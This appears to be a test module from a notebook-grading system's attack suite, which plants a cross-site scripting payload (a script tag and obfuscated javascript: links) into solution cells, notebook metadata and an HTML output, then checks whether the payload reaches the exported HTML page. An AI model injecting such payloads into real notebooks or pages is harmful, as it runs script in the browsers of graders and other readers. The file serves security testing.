"""Puts scripts into every text of its own that somebody will read."""

import json

import nbformat
from nbconvert import HTMLExporter

from tests.attacks.arena import Attack, Place, find_cell

SCRIPT = "<script>document.title = 'owned'</script>[x](javascript:alert(1))[y](javascript\\:alert(1))[z](java&#115;cript&colon;alert(1))"


def edit(notebook):
    for cell in notebook["cells"]:
        grading = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "markdown" and grading.get("solution"):
            cell["source"] = SCRIPT
    notebook["metadata"]["title"] = SCRIPT
    find_cell(notebook, "rnn_step")["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT}}
    ]


def control(place: Place):
    page, _ = HTMLExporter().from_notebook_node(nbformat.reads(json.dumps(place.notebook), 4))
    assert SCRIPT.split("[")[0] in page


ATTACK = Attack(control, edit=edit)
